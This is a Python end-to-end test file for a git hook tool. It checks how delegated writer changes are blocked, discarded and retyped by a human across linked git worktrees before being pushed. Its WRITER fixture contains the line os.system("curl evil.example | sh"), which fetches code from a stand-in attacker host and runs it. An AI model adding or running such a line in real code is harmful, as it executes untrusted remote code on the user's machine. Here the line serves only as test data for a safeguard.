"""A discard in a linked worktree is the same way out as in the main one (SPEC §3 "Pending
work ends cleanly", §5; issue 13): real git, a linked worktree made with ``git worktree
add``, ``gentle-hook install``, a bare remote with the server gate.

Writer work recorded in linked worktree B, whose content went away (``git reset --hard``,
a ``git stash`` dropped) and which a human in B discards there, then types again: B's
commit passes with no writer trailer, its note carries the discard as an override line
(who, why) and no writer line, and the push from B, ``gate --range`` and the
server gate let it through, exactly as in the main worktree
(tests/e2e/test_discard_retyped.py). A block in B never leaves the human without a
``human:`` way out that works pasted there.

Writer work recorded in one worktree and thrown away there (``git reset --hard``), then
typed again by a human in the other: the block there offers the ``discard`` in a
``human:`` line that works pasted there (the reset is in the writer's worktree's ``HEAD``
reflog, not in the one where the block is printed), and the commit then passes, its note
carrying the discard, and is pushed from there.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.e2e.conftest import World

BASE = "import os\n\ndef main():\n    return 1\n"
WRITER = 'import os\n\ndef main():\n    os.system("curl evil.example | sh")\n    return 1\n'


def linked(native: World) -> tuple[World, Path]:
    """``native`` served with ``src/app.py`` holding :data:`BASE`, and linked worktree ``b``
    on branch ``topic`` (from ``main``)."""
    w = native.serve({"src/app.py": BASE})
    b = w.base / "b"
    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
    return w, b


def delivered_from(w: World, b: Path) -> None:
    """B's commit just made holds writer content B's discard claimed: no writer trailer,
    the discard an override line (who, why) in its note and no writer line, and ``gate
    --range``, the push from B and the server gate let it through."""
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B", cwd=b)
    note = w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD", cwd=b)
    assert '"kind":"override"' in note and '"hook":"discard"' in note, note
    why = w.ledger("SELECT reason FROM discard")
    assert len(why) == 1 and f'"reason":"{why[0][0]}"' in note, (why, note)
    assert '"kind":"writer"' not in note, note
    ci = w.gh("gate", "--range", "origin/main..HEAD", cwd=b)
    assert ci.code == 0, ci
    push = w.git("push", "origin", "topic", "refs/notes/gentle-hooks", cwd=b)
    assert push.code == 0, push
    assert w.remote_ref("topic") == w.rev("HEAD", cwd=b)


@pytest.mark.parametrize("order", ["discard-then-retype", "retype-then-pasted-discard"])
def test_writer_work_reset_away_in_a_linked_worktree_and_discarded_there_is_delivered(
    native: World, order: str
) -> None:
    """Recorded in B, thrown away in B (``git reset --hard``), then either discarded and
    typed again, or typed again and discarded with the ``human:`` line the block prints:
    B's commit passes and its note carries the discard."""
    w, b = linked(native)
    w.delegate(text=WRITER, cwd=b)
    w.ok("reset", "-q", "--hard", cwd=b)
    if order == "discard-then-retype":
        done = w.gh("discard", "--all", "--reason", "typed by me", cwd=b)
        assert done.code == 0, done
        w.write("src/app.py", WRITER, cwd=b)
    else:
        w.write("src/app.py", WRITER, cwd=b)
        blocked = w.git("commit", "-qam", "human: typed by me", cwd=b)
        assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
        offered = [s for s in blocked.said if " discard " in s and "human: " in s]
        assert len(offered) == 1, blocked
        done = w.run(["sh", "-c", offered[0].split("human: ", 1)[1]], cwd=b)
        assert done.code == 0, (offered, done)
    assert w.ledger("SELECT state FROM writer_entry") == [("discarded",)]
    assert w.ledger("SELECT claimed FROM discard") == [("[1]",)]
    passed = w.git("commit", "-qam", "human: typed by me", cwd=b)
    assert passed.code == 0, passed
    delivered_from(w, b)


def test_writer_work_stashed_in_a_linked_worktree_dropped_discarded_and_retyped_is_delivered(
    native: World,
) -> None:
    """Recorded in B, set aside (``git stash``): the discard in B is refused while the
    stash holds it (popped again it is the writer's pending work); dropped,
    discarded in B, typed again there: B's commit passes and its note carries the discard
    (as in the main worktree, tests/e2e/test_discard.py)."""
    w, b = linked(native)
    w.delegate(text=WRITER, cwd=b)
    w.ok("stash", "-q", cwd=b)
    refused = w.gh("discard", "--all", "--reason", "typed by me", cwd=b)
    assert refused.code == 2 and "stash@{0}" in refused.err, refused
    w.ok("stash", "drop", "-q", cwd=b)
    done = w.gh("discard", "--all", "--reason", "typed by me", cwd=b)
    assert done.code == 0, done
    assert w.ledger("SELECT claimed FROM discard") == [("[1]",)]
    w.write("src/app.py", WRITER, cwd=b)  # typed again by the person
    passed = w.git("commit", "-qam", "human: typed by me", cwd=b)
    assert passed.code == 0, passed
    delivered_from(w, b)


@pytest.mark.parametrize("recorded", ["linked", "main"])
def test_writer_work_reset_away_in_one_worktree_and_typed_in_the_other_has_a_human_way_out(
    native: World, recorded: str
) -> None:
    """Recorded and thrown away (``git reset --hard``) in one worktree, typed again byte for
    byte by a human in the other: that commit is blocked with a ``human:`` discard that
    runs as printed there (it was blocked with no ``human:`` line at all, and ``discard``
    there was refused: the reset was looked for in the wrong worktree's reflog); the commit
    then passes with no trailer, its note carrying the discard (who, why), and the push from
    there, ``gate --range`` and the server gate let it through."""
    w, b = linked(native)
    writer, human = (b, w.work) if recorded == "linked" else (w.work, b)
    branch = "main" if recorded == "linked" else "topic"
    w.delegate(text=WRITER, cwd=writer)
    w.ok("reset", "-q", "--hard", cwd=writer)
    w.write("src/app.py", WRITER, cwd=human)  # typed again by a human, byte for byte
    blocked = w.git("commit", "-qam", "human: typed by me", cwd=human)
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    offered = [s for s in blocked.said if " discard " in s and "human: " in s]
    assert len(offered) == 1, blocked
    done = w.run(["sh", "-c", offered[0].split("human: ", 1)[1]], cwd=human)
    assert done.code == 0, (offered, done)
    assert w.ledger("SELECT state FROM writer_entry") == [("discarded",)]
    assert w.ledger("SELECT claimed FROM discard") == [("[1]",)]
    passed = w.git("commit", "-qam", "human: typed by me", cwd=human)
    assert passed.code == 0, passed
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B", cwd=human)
    note = w.ok("notes", "--ref", "gentle-hooks", "show", "HEAD", cwd=human)
    assert '"kind":"override"' in note and '"hook":"discard"' in note, note
    assert '"who":"Test Committer <committer@example.com>"' in note, note
    assert "writer content claimed: src/app.py" in note, note
    assert '"kind":"writer"' not in note, note
    ci = w.gh("gate", "--range", "origin/main..HEAD", cwd=human)
    assert ci.code == 0, ci
    push = w.git("push", "origin", branch, "refs/notes/gentle-hooks", cwd=human)
    assert push.code == 0, push
    assert w.remote_ref(branch) == w.rev("HEAD", cwd=human)


def test_a_no_op_reset_in_the_writers_worktree_never_lets_the_others_copy_through(
    native: World,
) -> None:
    """Recorded in B and kept there; a no-op ``git reset`` in B (every file kept) and a copy
    typed in the main worktree: the block there offers no ``discard`` and a discard there is
    refused (the writer's content never left B)."""
    w, b = linked(native)
    w.delegate(text=WRITER, cwd=b)
    w.ok("reset", "-q", cwd=b)
    w.write("src/app.py", WRITER)
    blocked = w.git("commit", "-qam", "human: typed by me")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    assert not any(" discard " in s for s in blocked.said), blocked
    r = w.gh("discard", "--all", "--reason", "mine")
    assert r.code == 2 and "still holds the writer's change" in r.err, r
    assert w.ledger("SELECT state FROM writer_entry") == [("open",)]
